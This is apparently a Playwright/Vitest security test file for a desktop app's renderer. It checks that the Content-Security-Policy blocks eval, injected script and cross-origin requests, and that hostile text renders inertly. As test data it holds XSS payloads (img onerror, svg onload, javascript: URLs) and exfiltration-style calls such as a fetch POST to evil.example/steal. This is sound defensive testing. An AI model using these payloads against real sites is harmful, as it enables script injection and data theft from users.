import { readFile } from 'node:fs/promises';
import { createServer, type IncomingHttpHeaders, type Server } from 'node:http';
import { extname, join, normalize } from 'node:path';
import type { Browser, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { CONTENT_SECURITY_POLICY as ELECTRON_CSP } from '../../electron/app-protocol.js';
import { parseCommand } from '../../src/contract/commands.js';
import type { AppView } from '../../src/contract/view.js';
import { startHeadlessHost, type HeadlessHost } from '../../src/host/headless-host.js';
import { ensureRendererBuilt, RENDERER_DIST } from '../../src/host/renderer-build.js';
import { groupAttention } from '../../src/app/attention-groups.js';
import { RecordingCore } from '../host/fake-core.js';
import { launchChromium, openPage } from '../ui/browser.js';
import { visible } from '../ui/locators.js';

/**
 * The built window in Debian's Chromium, under the headless host's policy and under the Electron window's exact
 * Content-Security-Policy: no Node in the page, no script but the bundle, nothing fetched from or sent to another
 * origin, hostile text drawn as text, and links that leave through the `openExternal` command.
 *
 * The core is the host tests' recording stand-in, answering `openExternal` the way AppCore does under the headless
 * host ({opened: false}: the browser opens the tab). Hostile strings reach the window the way real ones do: in the
 * view the core pushes over the WebSocket.
 */
const EVIL = 'https://evil.example';
/** Set by any hostile payload that manages to run. */
const PWNED = '__pwned';

class HeadlessLikeCore extends RecordingCore {
  override async invoke(command: string, input: unknown): Promise<unknown> {
    const parsed = parseCommand(command, input);
    if (parsed.command === 'openExternal') {
      this.calls.push(parsed);
      return { opened: false };
    }
    return super.invoke(command, input);
  }
}

let core: HeadlessLikeCore;
let host: HeadlessHost;
let browser: Browser;
let electronLike: { server: Server; url: string };

/** Serves dist/renderer as app:// does in Electron: the same files, with the Electron window's CSP header. */
async function serveWithElectronCsp(): Promise<{ server: Server; url: string }> {
  const types: Record<string, string> = {
    '.html': 'text/html; charset=utf-8',
    '.js': 'text/javascript; charset=utf-8',
    '.css': 'text/css; charset=utf-8',
    '.svg': 'image/svg+xml',
    '.png': 'image/png',
  };
  const server = createServer((request, response) => {
    const path = normalize(decodeURIComponent((request.url ?? '/').split(/[?#]/)[0]!)).replace(/^(\.\.[/\\])+/, '');
    const file = join(RENDERER_DIST, path === '/' ? 'index.html' : path);
    const headers = { 'content-security-policy': ELECTRON_CSP, 'x-content-type-options': 'nosniff' };
    if (!file.startsWith(RENDERER_DIST) || !types[extname(file)]) {
      response.writeHead(404, { ...headers, 'content-type': 'text/plain' }).end('Not found');
      return;
    }
    readFile(file).then(
      (body) => response.writeHead(200, { ...headers, 'content-type': types[extname(file)]! }).end(body),
      () => response.writeHead(404, { ...headers, 'content-type': 'text/plain' }).end('Not found'),
    );
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const address = server.address();
  return { server, url: `http://127.0.0.1:${typeof address === 'object' && address ? address.port : 0}/index.html` };
}

interface Observed {
  page: Page;
  /** Every request that reached the network layer for evil.example (CSP-blocked ones never do). */
  evilRequests: Array<{ url: string; headers: IncomingHttpHeaders | Record<string, string>; navigation: boolean }>;
  violations(): Promise<Array<{ directive: string; blocked: string }>>;
}

/** A page that records CSP violations and any request to evil.example (answered locally, never sent out). */
async function observedPage(options: { bypassCSP?: boolean } = {}): Promise<Observed> {
  const { page } = await openPage(browser, options);
  await page.addInitScript(`
    window.__violations = [];
    document.addEventListener('securitypolicyviolation', (e) => window.__violations.push({ directive: e.effectiveDirective, blocked: e.blockedURI }));
  `);
  const evilRequests: Observed['evilRequests'] = [];
  await page.context().route(`${EVIL}/**`, async (route) => {
    const request = route.request();
    evilRequests.push({ url: request.url(), headers: await request.allHeaders(), navigation: request.isNavigationRequest() });
    await route.fulfill({ status: 200, contentType: 'text/html', body: '<!doctype html><title>evil</title><p>evil</p>' });
  });
  return { page, evilRequests, violations: () => page.evaluate('window.__violations || []') };
}

/**
 * Attempts, each in page script, to run code or reach another origin. Each returns what happened in the page; the
 * test then checks the matching CSP directive reported a violation.
 */
const PROBES: Array<{ name: string; directive: string; code: string }> = [
  { name: 'eval', directive: 'script-src', code: `(() => { try { eval('window.${PWNED} = "eval"'); return 'ran'; } catch (e) { return e.name; } })()` },
  {
    name: 'new Function',
    directive: 'script-src',
    code: `(() => { try { new Function('window.${PWNED} = "function"')(); return 'ran'; } catch (e) { return e.name; } })()`,
  },
  {
    name: 'setTimeout with a string',
    directive: 'script-src',
    code: `(() => { setTimeout('window.${PWNED} = "timeout"', 0); return new Promise((r) => setTimeout(() => r('scheduled'), 100)); })()`,
  },
  {
    name: 'an injected inline <script>',
    directive: 'script-src-elem',
    code: `(() => { const s = document.createElement('script'); s.textContent = 'window.${PWNED} = "inline"'; document.body.appendChild(s); return new Promise((r) => setTimeout(() => r('appended'), 100)); })()`,
  },
  {
    name: 'an inline event handler through innerHTML',
    directive: 'script-src-attr',
    code: `(() => { const d = document.createElement('div'); d.innerHTML = '<img src="/no-such-image.png" onerror="window.${PWNED} = \\'onerror\\'">'; document.body.appendChild(d); return new Promise((r) => setTimeout(() => r('appended'), 300)); })()`,
  },
  {
    name: 'a javascript: URL in an iframe',
    directive: 'frame-src',
    code: `(() => { const f = document.createElement('iframe'); f.src = 'javascript:parent.${PWNED} = "iframe"'; document.body.appendChild(f); return new Promise((r) => setTimeout(() => r('appended'), 200)); })()`,
  },
  {
    name: 'fetch to another origin',
    directive: 'connect-src',
    code: `fetch('${EVIL}/steal?d=1', { method: 'POST', body: 'x' }).then(() => 'sent', (e) => e.name)`,
  },
  {
    name: 'XMLHttpRequest to another origin',
    directive: 'connect-src',
    code: `new Promise((r) => { try { const x = new XMLHttpRequest(); x.open('GET', '${EVIL}/xhr'); x.onload = () => r('loaded'); x.onerror = () => r('error'); x.send(); } catch (e) { r(e.name); } })`,
  },
  {
    name: 'a WebSocket to another origin',
    directive: 'connect-src',
    code: `new Promise((r) => { try { const w = new WebSocket('wss://evil.example/ws'); w.onopen = () => r('open'); w.onerror = () => r('error'); } catch (e) { r(e.name); } })`,
  },
  {
    name: 'sendBeacon to another origin',
    directive: 'connect-src',
    code: `(() => { try { return navigator.sendBeacon('${EVIL}/beacon', 'x') ? 'queued' : 'refused'; } catch (e) { return e.name; } })()`,
  },
  {
    name: 'a remote image',
    directive: 'img-src',
    code: `new Promise((r) => { const i = new Image(); i.onload = () => r('loaded'); i.onerror = () => r('error'); i.src = '${EVIL}/pixel.png'; })`,
  },
  {
    name: 'a remote script',
    directive: 'script-src-elem',
    code: `new Promise((r) => { const s = document.createElement('script'); s.src = '${EVIL}/x.js'; s.onload = () => r('loaded'); s.onerror = () => r('error'); document.head.appendChild(s); })`,
  },
  {
    name: 'a remote stylesheet',
    directive: 'style-src-elem',
    code: `new Promise((r) => { const l = document.createElement('link'); l.rel = 'stylesheet'; l.href = '${EVIL}/x.css'; l.onload = () => r('loaded'); l.onerror = () => r('error'); document.head.appendChild(l); })`,
  },
  {
    name: 'a remote iframe',
    directive: 'frame-src',
    code: `(() => { const f = document.createElement('iframe'); f.src = '${EVIL}/frame'; document.body.appendChild(f); return new Promise((r) => setTimeout(() => r('appended'), 300)); })()`,
  },
  {
    name: 'a form posted to another origin',
    directive: 'form-action',
    code: `(() => { const f = document.createElement('form'); f.method = 'post'; f.action = '${EVIL}/form'; f.target = '_blank'; document.body.appendChild(f); f.submit(); return new Promise((r) => setTimeout(() => r('submitted'), 300)); })()`,
  },
];

/**
 * Runs a probe in a task of the page's own, not inside the DevTools evaluation that starts it: Chromium lets code on
 * an inspector-evaluation stack use eval even under CSP, so a probe run directly would test the debugger, not the page.
 */
function inPageTask(code: string): string {
  return `new Promise((resolve) => setTimeout(() => { Promise.resolve().then(() => ${code}).then(resolve, (e) => resolve('threw ' + e.name)); }, 0))`;
}

async function runProbes(observed: Observed): Promise<void> {
  const { page } = observed;
  const outcomes: Record<string, unknown> = {};
  for (const probe of PROBES) outcomes[probe.name] = await page.evaluate(inPageTask(probe.code));

  expect(await page.evaluate(`window.${PWNED}`), JSON.stringify(outcomes)).toBeUndefined();
  expect(outcomes.eval).toBe('EvalError');
  expect(outcomes['new Function']).toBe('EvalError');
  expect(outcomes['fetch to another origin']).toBe('TypeError');
  expect(outcomes['XMLHttpRequest to another origin']).toBe('error');
  expect(outcomes['a remote image']).toBe('error');
  expect(outcomes['a remote script']).toBe('error');
  expect(outcomes['a remote stylesheet']).toBe('error');
  // Every attempt was refused by the policy itself (a violation report), not by luck (a network error).
  // (Violation events are dispatched asynchronously: wait until every expected directive has reported.)
  const expected = [...new Set(PROBES.map((p) => p.directive))].sort();
  await expect
    .poll(
      async () => {
        const seen = await observed.violations();
        return expected.filter((d) => seen.some((v) => v.directive === d));
      },
      { timeout: 5000, interval: 100 },
    )
    .toEqual(expected);
  // Nothing reached evil.example, not even a request the route would have answered.
  expect(observed.evilRequests).toEqual([]);
}

beforeAll(async () => {
  await ensureRendererBuilt();
  core = new HeadlessLikeCore();
  host = await startHeadlessHost({ core, staticDir: RENDERER_DIST });
  electronLike = await serveWithElectronCsp();
  browser = await launchChromium();
}, 120_000);

afterAll(async () => {
  await browser?.close();
  await host?.close();
  await new Promise<void>((resolve) => (electronLike ? electronLike.server.close(() => resolve()) : resolve()));
});

async function openWindow(): Promise<Observed> {
  const observed = await observedPage();
  await observed.page.goto(host.url);
  await visible(observed.page.getByRole('button', { name: 'Sync now' }));
  return observed;
}

describe('the window under the headless host, in Chromium', () => {
  it('has no Node in the page: require, process, module, Buffer and global are undefined', async () => {
    const { page } = await openWindow();
    const types = await page.evaluate(
      `({ require: typeof require, process: typeof process, module: typeof module, exports: typeof exports, Buffer: typeof globalThis.Buffer, global: typeof global, setImmediate: typeof setImmediate })`,
    );
    expect(types).toEqual({
      require: 'undefined',
      process: 'undefined',
      module: 'undefined',
      exports: 'undefined',
      Buffer: 'undefined',
      global: 'undefined',
      setImmediate: 'undefined',
    });
    // The headless host's bridge is the WebSocket; no Electron preload object exists here.
    expect(await page.evaluate('typeof window.caseStatusSync')).toBe('undefined');
    await page.context().close();
  });

  it('blocks inline and injected script, eval, and every request to another origin', async () => {
    const observed = await openWindow();
    await runProbes(observed);
    // The window itself still works after all that: it answers a command.
    const before = core.calls.length;
    await observed.page.getByRole('button', { name: 'Sync now' }).click();
    await expect.poll(() => core.calls.slice(before).map((c) => c.command)).toContain('syncNow');
    await observed.page.context().close();
  });

  it('control: with the policy bypassed, the same probes do run and do reach the other origin', async () => {
    // Shows the probes test the policy: the same page without CSP lets them through.
    const observed = await observedPage({ bypassCSP: true });
    await observed.page.goto(host.url);
    await visible(observed.page.getByRole('button', { name: 'Sync now' }));
    const evalProbe = PROBES.find((p) => p.name === 'eval')!;
    const fetchProbe = PROBES.find((p) => p.name === 'fetch to another origin')!;
    const inlineProbe = PROBES.find((p) => p.name === 'an injected inline <script>')!;
    expect(await observed.page.evaluate(inPageTask(evalProbe.code))).toBe('ran');
    expect(await observed.page.evaluate(inPageTask(inlineProbe.code))).toBe('appended');
    expect(await observed.page.evaluate(`window.${PWNED}`)).toBe('inline');
    expect(await observed.page.evaluate(inPageTask(fetchProbe.code))).toBe('sent');
    expect(observed.evilRequests.map((r) => r.url)).toContain(`${EVIL}/steal?d=1`);
    await observed.page.context().close();
  });

  it('draws hostile text from the core as text: no element, no handler, nothing runs', async () => {
    const observed = await openWindow();
    const { page } = observed;
    const payloads = {
      img: `<img src=x onerror="window.${PWNED}='img'">`,
      script: `<script>window.${PWNED}='script'</script>`,
      svg: `<svg onload="window.${PWNED}='svg'"></svg>`,
      iframe: `<iframe src="javascript:parent.${PWNED}='iframe'"></iframe>`,
    };
    const now = new Date().toISOString();
    const hostileItems: AppView['attention'] = [
      {
        id: 7,
        kind: 'unmapped_stage',
        subjectId: payloads.img,
        reason: `Stage ${payloads.script} has no Case Status stage`,
        firstSeen: now,
        lastSeen: now,
        occurrences: 1,
        retryable: true,
        confirmable: false,
        dismissable: true,
      },
    ];
    core.push({
      activity: [
        { id: 1, at: now, kind: 'memo', matterId: payloads.script, summary: `Memo from ${payloads.img} for matter ${payloads.svg}`, link: `${EVIL}/case/1` },
        { id: 2, at: now, kind: 'document', matterId: null, summary: `Document ${payloads.iframe}.pdf`, link: `javascript:window.${PWNED}='href'` },
      ],
      attention: hostileItems,
      // The window draws attention as groups of one kind (issue 15): hand it the groups the view model would.
      attentionGroups: groupAttention(hostileItems, {}),
      recentRuns: [{ id: 3, kind: 'incremental', startedAt: now, finishedAt: now, outcome: 'failed', error: payloads.svg }],
    } satisfies Partial<AppView>);
    await visible(page.getByText(`Memo from ${payloads.img} for matter ${payloads.svg}`));
    await visible(page.getByText(`Stage ${payloads.script} has no Case Status stage`, { exact: false }));

    const dom = await page.evaluate(`({
      injectedImages: document.querySelectorAll('img[src="x"]').length,
      svgs: document.querySelectorAll('#activity svg, #attention svg').length,
      iframes: document.querySelectorAll('iframe').length,
      handlers: document.querySelectorAll('[onerror],[onload],[onclick]').length,
      inlineScripts: Array.from(document.scripts).filter((s) => !s.src).length,
      foreignScripts: Array.from(document.scripts).filter((s) => s.src && new URL(s.src).origin !== location.origin).length,
    })`);
    expect(dom).toEqual({ injectedImages: 0, svgs: 0, iframes: 0, handlers: 0, inlineScripts: 0, foreignScripts: 0 });
    await new Promise((resolve) => setTimeout(resolve, 300));
    expect(await page.evaluate(`window.${PWNED}`)).toBeUndefined();
    expect(await observed.violations()).toEqual([]); // nothing even tried to run: React wrote text nodes
    await page.context().close();
  });

  it('sends activity links out through openExternal and never navigates the window; a javascript: link does nothing', async () => {
    const observed = await openWindow();
    const { page } = observed;
    const now = new Date().toISOString();
    core.push({
      activity: [
        { id: 1, at: now, kind: 'memo', matterId: 'm-1', summary: 'Memo for M-1', link: `${EVIL}/case/1` },
        { id: 2, at: now, kind: 'memo', matterId: 'm-2', summary: 'Memo for M-2', link: `javascript:window.${PWNED}='href'` },
      ],
    });
    const windowUrl = page.url();
    const before = core.calls.length;

    // An https link: the core is asked to open it; under the headless host it answers {opened: false}, so the
    // browser opens a new tab (no opener) while the window stays where it is.
    const popup = page.context().waitForEvent('page');
    await page.locator('#activity li').filter({ hasText: 'Memo for M-1' }).getByRole('link').click();
    const tab = await popup;
    await tab.waitForLoadState('domcontentloaded');
    expect(tab.url()).toBe(`${EVIL}/case/1`);
    expect(await tab.evaluate('window.opener')).toBeNull();
    expect(page.url()).toBe(windowUrl);
    expect(core.calls.slice(before)).toEqual([{ command: 'openExternal', input: { url: `${EVIL}/case/1` } }]);
    // The new tab is not told where it came from (Referrer-Policy: no-referrer), so the access token cannot leak.
    const opened = observed.evilRequests.find((r) => r.url === `${EVIL}/case/1`);
    expect(opened?.headers.referer).toBeUndefined();

    // A javascript: link: React neutralises the href, the click goes to openExternal, which the core refuses.
    const pages = page.context().pages().length;
    await page.locator('#activity li').filter({ hasText: 'Memo for M-2' }).getByRole('link').click();
    await visible(page.getByText(/Only http\(s\) links open/));
    expect(await page.evaluate(`window.${PWNED}`)).toBeUndefined();
    expect(page.url()).toBe(windowUrl);
    expect(page.context().pages().length).toBe(pages);
    expect(core.calls.slice(before).map((c) => c.command)).toEqual(['openExternal']);
    await page.context().close();
  });

  it('documents what script could do to the tab: navigate it and open windows, without the token or an opener', async () => {
    // The headless host's window is an ordinary browser tab: CSP has no directive against top-level navigation,
    // so script running in it could navigate it away. The defence is that no script but the bundle can run (above)
    // and the Electron window's will-navigate / setWindowOpenHandler guard (test/electron/window.test.ts).
    const observed = await openWindow();
    const { page } = observed;
    expect(page.url()).not.toContain('token='); // the window removed it from the address on load

    const popup = page.context().waitForEvent('page');
    expect(await page.evaluate(`window.open('${EVIL}/popup') === null`)).toBe(false);
    const tab = await popup;
    await tab.waitForLoadState('domcontentloaded');
    expect(await tab.evaluate('window.opener')).toBeNull(); // Cross-Origin-Opener-Policy: same-origin severs it

    await page.evaluate(`location.href = '${EVIL}/'`);
    await page.waitForURL(`${EVIL}/`);
    const navigation = observed.evilRequests.find((r) => r.navigation && r.url === `${EVIL}/`);
    expect(navigation).toBeDefined();
    expect(navigation!.headers.referer).toBeUndefined();
    for (const request of observed.evilRequests) expect(request.url).not.toContain(host.token);
    await page.context().close();
  });
});

describe("the window under the Electron window's CSP, in Chromium", () => {
  it('serves the policy from electron/app-protocol.ts', async () => {
    const response = await fetch(electronLike.url);
    expect(response.headers.get('content-security-policy')).toBe(ELECTRON_CSP);
    expect(ELECTRON_CSP).toContain("frame-ancestors 'none'");
  });

  it('blocks inline and injected script, eval, and every request to another origin', async () => {
    const observed = await observedPage();
    await observed.page.goto(electronLike.url);
    // No preload and no WebSocket host here: the window draws its "not connected" state, which is enough to probe.
    await observed.page.waitForLoadState('load');
    expect(await observed.page.evaluate('document.querySelector("#root").childElementCount')).toBeGreaterThan(0);
    await runProbes(observed);
    await observed.page.context().close();
  });

  it('refuses a WebSocket to another local port under both policies (the window only talks to its own host)', async () => {
    const other = createServer(() => {});
    await new Promise<void>((resolve) => other.listen(0, '127.0.0.1', resolve));
    const port = (other.address() as { port: number }).port;
    const attempt = `new Promise((r) => { try { const w = new WebSocket('ws://127.0.0.1:${port}/'); w.onopen = () => r('open'); w.onerror = () => r('error'); } catch (e) { r(e.name); } })`;
    let upgrades = 0;
    other.on('upgrade', (_request, socket) => {
      upgrades++;
      socket.destroy();
    });
    try {
      const electron = await observedPage();
      await electron.page.goto(electronLike.url);
      await electron.page.evaluate(attempt);
      expect((await electron.violations()).some((v) => v.directive === 'connect-src' && v.blocked.startsWith(`ws://127.0.0.1:${port}`))).toBe(true);
      expect(upgrades).toBe(0);
      await electron.page.context().close();

      // The headless host's policy is connect-src 'self': its own WebSocket (same host and port) and nothing else.
      const headless = await openWindow();
      const blocked = await headless.page.evaluate(`new Promise((r) => {
        document.addEventListener('securitypolicyviolation', (e) => r(e.violatedDirective + ' ' + e.blockedURI), { once: true });
        try { new WebSocket('ws://127.0.0.1:${port}/'); } catch (e) { r('threw ' + e.name); }
      })`);
      expect(String(blocked)).toMatch(/connect-src|threw SecurityError/);
      await new Promise((r) => setTimeout(r, 500));
      expect(upgrades).toBe(0);
      // …while the window's own socket works: connected (no connection banner) and showing the app's state.
      expect(await headless.page.locator('#connection-banner').count()).toBe(0);
      expect(await headless.page.evaluate('document.body.innerText')).toMatch(/Up to date|Importing|Syncing|attention/i);
      await headless.page.context().close();
    } finally {
      await new Promise<void>((resolve) => other.close(() => resolve()));
    }
  });
});
